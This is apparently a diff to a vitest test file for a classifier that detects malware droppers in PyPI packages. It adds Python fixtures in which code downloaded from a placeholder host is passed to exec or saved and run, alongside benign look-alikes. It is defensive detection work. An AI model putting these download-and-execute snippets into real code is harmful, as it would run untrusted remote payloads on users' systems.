@@ -3,7 +3,7 @@
  * (src/checks/lib/python-functions.ts, download-calls.ts, saved-downloads.ts), read by the
  * import-time code classifier. The positives are the shapes droppers uploaded to PyPI take (a
  * `fetch(url, dest)` helper, a helper returning the payload's bytes or its path, `from wget import
- * download`, `import requests as r`); each negative is the same shape doing what builds and
+ * download`, `import requests as r`, a function given the payload as a parameter); each negative is the same shape doing what builds and
  * libraries do: a data file downloaded and read, a mode name used for reading, a path only read.
  */
 import { describe, expect, it } from 'vitest';
@@ -119,6 +119,8 @@ describe('a download run through the module\'s own functions and imported names'
     ['requests imported as r, the response written and run', 'import requests as r, subprocess\nd = r.get("http://e.test/a").content\nopen("/tmp/a", "wb").write(d)\nsubprocess.Popen(["/tmp/a"])\n'],
     ['requests imported as r, the text handed to exec', 'import requests as r\nexec(r.get("http://e.test/a").text)\n'],
     ['requests.get imported by name, handed to exec', 'from requests import get\nexec(get("http://e.test/a").text)\n'],
+    ['downloaded text passed to a function that execs its parameter', 'import requests\ndef run(code):\n    exec(code)\n\nrun(requests.get("http://e.test/a").text)\n'],
+    ['downloaded bytes passed to a function that writes its parameter, then started', 'import os, requests\ndef save(data, p):\n    with open(p, "wb") as f:\n        f.write(data)\n\nsave(requests.get("http://e.test/a").content, "/tmp/a")\nos.system("/tmp/a")\n'],
     ['subprocess imported under another name', 'import subprocess as _s, urllib.request\nurllib.request.urlretrieve("http://e.test/a", "/tmp/a")\n_s.Popen(["/tmp/a"])\n'],
     ['os imported under another name, startfile', 'import os as _o\nfrom urllib.request import urlretrieve\nurlretrieve("http://e.test/a", "a.exe")\n_o.startfile("a.exe")\n'],
   ])('%s: download-and-run', (_name, text) => {
@@ -128,6 +130,8 @@ describe('a download run through the module\'s own functions and imported names'
   it.each([
     ['a setup.py helper downloading a data file that is only read', 'import json, subprocess\nfrom urllib.request import urlretrieve\ndef fetch(url, dest):\n    urlretrieve(url, dest)\n\nfetch("http://e.test/data.json", "data.json")\nsubprocess.check_call(["tar", "xf", "data.json"])\nwith open("data.json") as f:\n    DATA = json.load(f)\n'],
     ['a helper\'s parameter saved, another program run', 'import subprocess\nfrom urllib.request import urlretrieve\ndef fetch(url, dest):\n    urlretrieve(url, dest)\n\nfetch("http://e.test/a.tgz", "a.tgz")\nsubprocess.check_call(["./configure"])\n'],
+    ['a function that execs its parameter, given a local file', 'import requests\ndef run(code):\n    exec(code)\n\nrun(open("x.py").read())\nrequests.get("http://e.test/a")\n'],
+    ['a function that writes its parameter, given local bytes, then started', 'import os, requests\ndef save(data, p):\n    with open(p, "wb") as f:\n        f.write(data)\n\nsave(b"x", "/tmp/a")\nos.system("/tmp/a")\nrequests.get(u)\n'],
     ['subprocess under another name running a fixed tool', 'import subprocess as sp\nfrom urllib.request import urlretrieve\nurlretrieve("http://e.test/a.tgz", "a.tgz")\nsp.check_call(["tar", "xzf", "a.tgz"])\n'],
     ['a mode name used for reading', 'import requests, subprocess\nr = requests.get("http://e.test/a")\nmode = "rb"\nf = open("/tmp/a", mode)\nf.write(r.content)\nsubprocess.Popen(["/tmp/a"])\n'],
     ['a function that takes a path and only reads it', 'import sys, subprocess\nimport requests\ndef load(path):\n    with open(path) as f:\n        return f.read()\n\np = "build.py"\nv = load(p)\nr = requests.get("http://e.test/v")\nsubprocess.check_call([sys.executable, p])\n'],
